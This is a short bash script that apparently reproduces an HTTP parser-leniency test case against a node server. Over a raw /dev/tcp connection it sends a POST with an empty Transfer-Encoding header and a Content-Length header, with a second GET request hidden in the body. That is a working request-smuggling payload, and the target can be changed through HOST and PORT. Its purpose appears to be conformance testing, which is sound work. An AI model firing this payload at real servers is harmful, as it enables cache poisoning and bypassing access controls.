#!/bin/bash
# lenient/te-with-content-length/accepted-2xx via header.delete+header.name-case against node
# HOST=… PORT=… aim it at another server (the bytes keep the original Host or :authority).
HOST=${HOST:-127.0.0.1}
PORT=${PORT:-58937}
# A server that closes early makes a later write fail; the answer is still read.
trap '' PIPE
exec 3<>"/dev/tcp/$HOST/$PORT" || exit 1
timeout 2 cat <&3 | xxd &
printf 'POST / HTTP/1.1\r\nhoSt:127.0.0.1:58937\r\nTransfer-Encoding:\r\nContent-Length:46\r\n\r\n0\r\n\r\nGET /cats/1 HTTP/1.1\r\nHost: localhost\r\n\r\n' >&3
wait
